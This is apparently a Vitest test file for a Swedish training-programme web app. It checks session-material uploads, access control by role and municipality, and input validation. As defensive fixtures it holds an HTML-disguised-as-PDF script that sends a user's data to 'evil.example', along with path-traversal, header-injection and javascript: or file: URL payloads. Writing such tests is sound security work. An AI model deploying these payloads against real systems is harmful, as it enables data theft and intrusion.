import fs from "node:fs";
import os from "node:os";
import path from "node:path";
import { afterEach, beforeEach, describe, expect, it } from "vitest";
import type { Db } from "~/db/connection.server";
import { materialPostSchema } from "~/schemas/material";
import { FileTooLargeError } from "~/utils/form-data.server";
import { createCohort, createEnrolment, createMunicipality, createParticipant, createProgramme, createSession, createUser } from "../../db/seed/factories";
import { demoPdf } from "../../db/seed/material-demo";
import { ctxFor, expectResponse } from "../../tests/support/coordination";
import { emptyDb } from "../../tests/support/db";
import { setCoordinatorsPlanSessions } from "./cofinancing.server";
import type { Ctx } from "./context.server";
import { checked, type Checked } from "./result";
import { getMaterialPage, openSessionMaterialFile, postSessionMaterial, type MaterialUpload } from "./session-material.server";
import { getSessionDetail } from "./sessions.server";
import { getStartPage } from "./start-page.server";

async function* chunksOf(bytes: Uint8Array, size = 1000): AsyncGenerator<Uint8Array> {
  for (let i = 0; i < bytes.length; i += size) yield bytes.subarray(i, i + size);
}

/** What the route hands the domain: the parsed fields, and the file fed to the domain's store as it "arrives". */
function posting(fields: Record<string, string>, file?: { name: string; bytes: Uint8Array | AsyncIterable<Uint8Array> }): MaterialUpload {
  return async (store) => {
    const parsed = materialPostSchema.safeParse(fields);
    const posted: Checked<ReturnType<typeof materialPostSchema.parse>> = parsed.success ? checked(parsed.data) : { status: "error" };
    if (!file) return { posted, file: null };
    const chunks = file.bytes instanceof Uint8Array ? chunksOf(file.bytes) : file.bytes;
    return { posted, file: await store(chunks, { filename: file.name }) };
  };
}

async function readAll(stream: NodeJS.ReadableStream): Promise<Buffer> {
  const parts: Buffer[] = [];
  for await (const chunk of stream) parts.push(Buffer.from(chunk as Uint8Array));
  return Buffer.concat(parts);
}

const PDF = demoPdf(["Programblad", "Dag 1"]);
const HTML_AS_PDF = Buffer.from(`<!doctype html><html><body><script>fetch('/mina-uppgifter.json').then(r => r.text()).then(t => fetch('https://evil.example/?' + t))</script></body></html>`);

describe("session material", () => {
  let db: Db;
  let dir: string;
  let programmeId: number;
  let sessionId: number;
  let otherSessionId: number;
  let vimmerby: number;
  let lead: Ctx;
  let otherLead: Ctx;
  let vimmerbyCoordinator: Ctx;
  let hultsfredCoordinator: Ctx;
  let eksjoCoordinator: Ctx;
  let trainee: Ctx;
  let otherCohortTrainee: Ctx;
  let funder: Ctx;

  beforeEach(async () => {
    db = await emptyDb();
    dir = fs.mkdtempSync(path.join(os.tmpdir(), "material-test-"));
    vimmerby = await createMunicipality(db, { name: "Vimmerby" });
    const hultsfred = await createMunicipality(db, { name: "Hultsfred" });
    const eksjo = await createMunicipality(db, { name: "Eksjö" });
    programmeId = await createProgramme(db, { name: "Ledarutveckling", ownerMunicipalityId: vimmerby, partnerMunicipalityIds: [hultsfred], startsOn: "2027-01-01", endsOn: "2027-12-31" });
    const otherProgramme = await createProgramme(db, { name: "Traineeprogram", ownerMunicipalityId: eksjo, partnerMunicipalityIds: [eksjo, vimmerby], startsOn: "2027-01-01", endsOn: "2027-12-31" });
    const cohortId = await createCohort(db, { programmeId, name: "Omgång 1", startsOn: "2027-01-10", endsOn: "2027-12-10", seats: { [vimmerby]: 2, [hultsfred]: 2 } });
    const otherCohort = await createCohort(db, { programmeId: otherProgramme, name: "Omgång A", startsOn: "2027-01-10", endsOn: "2027-12-10", seats: { [eksjo]: 2, [vimmerby]: 2 } });
    const user = (email: string, grants: Parameters<typeof createUser>[1]["grants"]) => createUser(db, { email, name: email, grants }).then((id) => ctxFor(db, id));
    lead = await user("lead@test.se", [{ role: "programme_lead", programmeId }]);
    otherLead = await user("lead2@test.se", [{ role: "programme_lead", programmeId: otherProgramme }]);
    vimmerbyCoordinator = await user("v@test.se", [{ role: "coordinator", municipalityId: vimmerby }]);
    hultsfredCoordinator = await user("h@test.se", [{ role: "coordinator", municipalityId: hultsfred }]);
    eksjoCoordinator = await user("e@test.se", [{ role: "coordinator", municipalityId: eksjo }]);
    funder = await user("f@test.se", [{ role: "funder", programmeId }]);
    const anna = await createParticipant(db, { municipalityId: vimmerby, firstName: "Anna", lastName: "Berg" });
    await createEnrolment(db, { cohortId, participantId: anna, municipalityId: vimmerby, status: "active" });
    trainee = await user("anna@test.se", [{ role: "participant", municipalityId: vimmerby, participantId: anna }]);
    const bo = await createParticipant(db, { municipalityId: vimmerby, firstName: "Bo", lastName: "Ek" });
    await createEnrolment(db, { cohortId: otherCohort, participantId: bo, municipalityId: vimmerby, status: "active" });
    otherCohortTrainee = await user("bo@test.se", [{ role: "participant", municipalityId: vimmerby, participantId: bo }]);
    const session = (cohort: number, title: string) =>
      createSession(db, { cohortId: cohort, title, startsAt: "2027-03-14T08:00:00.000Z", endsAt: "2027-03-14T15:00:00.000Z", hostMunicipalityId: vimmerby, venue: "Stadshuset" });
    sessionId = await session(cohortId, "Uppstart");
    otherSessionId = await session(otherCohort, "Introduktion");
  });
  afterEach(() => fs.rmSync(dir, { recursive: true, force: true }));

  const storedFiles = () => fs.readdirSync(dir);
  const rows = () => db.selectFrom("session_materials").selectAll().orderBy("id").execute();
  const addPdf = (ctx: Ctx, name = "Programblad.pdf", bytes: Uint8Array = PDF) => postSessionMaterial(ctx, sessionId, dir, posting({ intent: "file", title: "" }, { name, bytes }));

  it("lets the programme lead add a PDF and a link that the cohort's trainee reads on the session, with the same bytes", async () => {
    expect(await addPdf(lead)).toEqual({ ok: true, value: "file" });
    expect(await postSessionMaterial(lead, sessionId, dir, posting({ intent: "link", title: "Förberedande läsning", url: "https://www.av.se/arbetsmiljoarbete/" }))).toEqual({ ok: true, value: "link" });

    const detail = await getSessionDetail(trainee, sessionId);
    expect(detail.material.map((m) => [m.kind, m.title, m.fileName, m.contentType, m.url])).toEqual([
      ["file", "Programblad", "Programblad.pdf", "application/pdf", null],
      ["link", "Förberedande läsning", null, null, "https://www.av.se/arbetsmiljoarbete/"],
    ]);
    const download = await openSessionMaterialFile(trainee, detail.material[0].id, dir);
    expect(download).toMatchObject({ fileName: "Programblad.pdf", contentType: "application/pdf", inline: true, sizeBytes: PDF.length });
    expect(await readAll(download.stream)).toEqual(PDF);
    // Partner municipalities' coordinators read the session, so its material too.
    await readAll((await openSessionMaterialFile(hultsfredCoordinator, detail.material[0].id, dir)).stream);
    const audit = await db.selectFrom("audit_log").select(["action", "detail"]).where("action", "like", "session_material.%").execute();
    expect(audit.map((a) => a.action)).toEqual(["session_material.added", "session_material.added"]);
    // Ids and types only: a title or file name could name someone.
    expect(audit.map((a) => a.detail).join()).not.toMatch(/Programblad|Förberedande|av\.se/);
  });

  it("shows the next session's material on the trainee's start page", async () => {
    await postSessionMaterial(lead, sessionId, dir, posting({ intent: "link", title: "Läs före träffen", url: "https://www.esf.se/" }));
    const start = await getStartPage(trainee, new Date("2027-03-01T08:00:00Z"));
    expect(start.trainee?.next?.id).toBe(sessionId);
    expect(start.trainee?.nextMaterial.map((m) => m.title)).toEqual(["Läs före träffen"]);
  });

  it("wrong municipality or programme: neither reads nor adds, answered like a made-up id (404), and nothing is stored", async () => {
    await addPdf(lead);
    const [pdf] = await rows();
    // Not a partner of the programme: the session is not theirs to know.
    await expectResponse(openSessionMaterialFile(eksjoCoordinator, pdf.id, dir), 404);
    await expectResponse(openSessionMaterialFile(otherLead, pdf.id, dir), 404);
    await expectResponse(openSessionMaterialFile(otherLead, 987_654, dir), 404);
    for (const stranger of [eksjoCoordinator, otherLead, hultsfredCoordinator, vimmerbyCoordinator]) {
      await expectResponse(addPdf(stranger), 404);
      await expectResponse(getMaterialPage(stranger, sessionId), 404);
      await expectResponse(postSessionMaterial(stranger, sessionId, dir, posting({ intent: "remove", materialId: String(pdf.id) })), 404);
    }
    // A funder never reads sessions: 403, for a real id and a made-up one alike.
    await expectResponse(openSessionMaterialFile(funder, pdf.id, dir), 403);
    await expectResponse(openSessionMaterialFile(funder, 987_654, dir), 403);
    expect(await rows()).toHaveLength(1);
    expect(storedFiles()).toHaveLength(1);
  });

  it("lets the host municipality's coordinator add material only where the programme lets coordinators plan (ADR 013)", async () => {
    await setCoordinatorsPlanSessions(lead, programmeId, true);
    expect(await addPdf(vimmerbyCoordinator)).toMatchObject({ ok: true });
    // Hultsfred does not host this session: it reads, it does not add.
    await expectResponse(addPdf(hultsfredCoordinator), 404);
    expect(await rows()).toHaveLength(1);
  });

  it("a trainee of another cohort, or one not active in this one, gets 404 for the session's material", async () => {
    await addPdf(lead);
    const [pdf] = await rows();
    await expectResponse(openSessionMaterialFile(otherCohortTrainee, pdf.id, dir), 404);
    await expectResponse(getSessionDetail(otherCohortTrainee, sessionId), 404);
    // Trainees never add material: 403 (their role may never plan a session).
    await expectResponse(addPdf(trainee), 403);
    await db.updateTable("enrolments").set({ status: "dropped" }).where("cohort_id", "=", (await db.selectFrom("sessions").select("cohort_id").where("id", "=", sessionId).executeTakeFirstOrThrow()).cohort_id).execute();
    await expectResponse(openSessionMaterialFile(trainee, pdf.id, dir), 404);
    // Material of a session is not material of another: a file id is checked against its own session.
    await expectResponse(postSessionMaterial(otherLead, otherSessionId, dir, posting({ intent: "remove", materialId: String(pdf.id) })), 404);
    expect(await rows()).toHaveLength(1);
  });

  it("refuses a file named .pdf that holds HTML and script, keeps nothing of it, and says so in Swedish", async () => {
    const result = await addPdf(lead, "Programblad.pdf", HTML_AS_PDF);
    expect(result).toMatchObject({ ok: false, status: 400, fieldErrors: { file: [expect.stringMatching(/inte en PDF.*innehåller/)] } });
    // A ZIP that is no Office document, and an SVG, are refused too.
    expect(await addPdf(lead, "bild.svg", Buffer.from('<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>'))).toMatchObject({ ok: false, status: 400 });
    expect(await addPdf(lead, "tom.pdf", new Uint8Array())).toMatchObject({ ok: false, status: 400 });
    expect(await rows()).toEqual([]);
    expect(storedFiles()).toEqual([]);
  });

  it("refuses a file past the size limit (413) and leaves no part of it on disk", async () => {
    async function* tooLarge(): AsyncGenerator<Uint8Array> {
      yield PDF;
      yield new Uint8Array(64 * 1024);
      throw new FileTooLargeError();
    }
    const result = await postSessionMaterial(lead, sessionId, dir, posting({ intent: "file" }, { name: "stor.pdf", bytes: tooLarge() }));
    expect(result).toMatchObject({ ok: false, status: 413, fieldErrors: { file: ["Filen är för stor (högst 20 MB)."] } });
    expect(await rows()).toEqual([]);
    expect(storedFiles()).toEqual([]);
  });

  it("path traversal in a file name is harmless: the file is stored under a random key and served under its cleaned-up name", async () => {
    for (const name of ["../../../../etc/passwd.pdf", "..\\..\\windows\\system32\\evil.pdf", 'a"b;c\r\nSet-Cookie: x=1.pdf', ".htaccess", "rapport\u202efdp.exe.pdf"]) {
      expect(await addPdf(lead, name)).toMatchObject({ ok: true });
    }
    expect((await rows()).map((r) => r.file_name)).toEqual(["passwd.pdf", "evil.pdf", "a b;c Set-Cookie x=1.pdf", "material.pdf", "rapport fdp.exe.pdf"]);
    const stored = storedFiles();
    expect(stored).toHaveLength(5);
    for (const file of stored) expect(file).toMatch(/^[A-Za-z0-9_-]{24}$/);
    expect(new Set(stored)).toEqual(new Set((await rows()).map((r) => r.file_key)));
    // Nothing was written outside the folder.
    expect(fs.existsSync(path.join(dir, "..", "passwd.pdf"))).toBe(false);
  });

  it("refuses a link that is not http or https", async () => {
    for (const url of ["javascript:alert(1)", "data:text/html,<script>alert(1)</script>", "file:///etc/passwd", "https://user:pw@evil.example/"]) {
      expect(await postSessionMaterial(lead, sessionId, dir, posting({ intent: "link", title: "X", url }))).toMatchObject({ ok: false, status: 400 });
    }
    expect(await rows()).toEqual([]);
  });

  it("removing material deletes its file, and is audited", async () => {
    await addPdf(lead);
    await postSessionMaterial(lead, sessionId, dir, posting({ intent: "link", title: "Länk", url: "https://www.esf.se/" }));
    const [pdf, link] = await rows();
    expect(storedFiles()).toEqual([pdf.file_key]);
    expect(await postSessionMaterial(lead, sessionId, dir, posting({ intent: "remove", materialId: String(pdf.id) }))).toEqual({ ok: true, value: "remove" });
    expect(storedFiles()).toEqual([]);
    expect((await rows()).map((r) => r.id)).toEqual([link.id]);
    await expectResponse(openSessionMaterialFile(trainee, pdf.id, dir), 404);
    const removed = await db.selectFrom("audit_log").select(["entity_id", "detail"]).where("action", "=", "session_material.removed").execute();
    expect(removed).toEqual([{ entity_id: String(sessionId), detail: JSON.stringify({ materialId: pdf.id, kind: "file" }) }]);
  });
});
